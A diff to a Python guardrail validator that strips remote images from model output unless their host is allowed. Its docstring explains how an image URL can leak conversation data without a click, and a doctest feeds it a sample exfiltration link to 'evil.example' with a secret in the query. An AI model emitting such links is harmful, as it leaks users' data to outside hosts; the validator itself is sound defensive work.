@@ -1,4 +1,4 @@
-"""markdown-images: a text that loads no pictures from strange hosts."""
+"""markdown-images: a text that loads no images from unknown hosts."""
 
 from __future__ import annotations
 
@@ -9,14 +9,14 @@ from railguard_validators._wording import listed, shown
 
 
 class MarkdownImages:
-    """Loads no picture from a host that is not in `hosts`, in Markdown or HTML: be it `<img>`, `srcset`, a background or
-    what else a style loads, a video's poster, or a frame or script. Whoever shows such a text asks that host for the
-    picture, and the URL can carry out what the model knows; so a remote picture is a way to leak a conversation without
-    a click. Pictures without a host (`a.png`) and in the text itself (`data:`) pass.
+    """Loads no image from a host that is not in `hosts`, in Markdown or HTML: by `<img>`, `srcset`, a background or
+    another URL of a style, a video's poster, or a frame or script. A program that shows the text requests the image
+    from that host, and the URL can contain data from the conversation; so a remote image can leak data without a click.
+    Images without a host (`a.png`) and embedded ones (`data:`) pass.
 
-    hosts: the ones that pictures may come from, with all below them; by default none.
+    hosts: the allowed hosts, including their subdomains; by default none.
 
-    The fix puts the picture's alternative text in its place, and nothing where there is none.
+    The fix replaces the image by its alternative text, or removes it if it has none.
 
     >>> markdown_images(["example.org"]).run("![Logo](https://img.example.org/logo.png) ![a](a.png)")
     >>> markdown_images().run("Done. ![x](https://evil.example/p.png?d=secret)").message
@@ -61,4 +61,4 @@ class MarkdownImages:
         return settled(Finding(*link.picture, link.label or "") for link in self._strange(text) if link.picture)
 
 
-markdown_images = validator("markdown-images")(MarkdownImages)
+markdown_images = validator("markdown-images", subject="Safety")(MarkdownImages)
